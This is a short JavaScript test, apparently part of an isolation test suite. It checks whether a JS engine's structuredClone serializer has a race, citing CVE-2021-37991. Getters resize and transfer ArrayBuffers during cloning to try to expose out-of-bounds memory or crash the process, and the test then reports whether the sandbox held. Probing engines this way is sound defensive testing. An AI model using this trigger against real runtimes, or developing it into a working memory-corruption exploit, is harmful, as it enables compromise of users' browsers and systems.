// layer: isolate
// attack: getters detach, shrink and transfer buffers while structuredClone writes and moves them
// success: memory that is not the buffer's shows, or the cell dies
// reference: CVE-2021-37991 (race of the serializer)
// control: none: needs an engine with the hole
const bad = [];
for (let size = 16; size <= 1 << 20; size *= 4) {
    const a = new ArrayBuffer(size, { maxByteLength: size * 2 }), b = new ArrayBuffer(size);
    try {
        const copy = structuredClone({ x: new Uint8Array(a), get y() { a.resize(1); structuredClone(b, { transfer: [b] }); return new Uint8Array(a); }, z: b }, { transfer: [b] });
        if (copy.x.byteLength > size * 2 || [...copy.x.subarray(0, 64)].some(Boolean)) bad.push(size);
    } catch { /* refused */ }
    try { structuredClone([a, a], { transfer: [a, { get 0() { a.resize(0); } }] }); } catch { /* refused */ }
}
export default bad.length ? escaped(bad) : held('nothing shows');
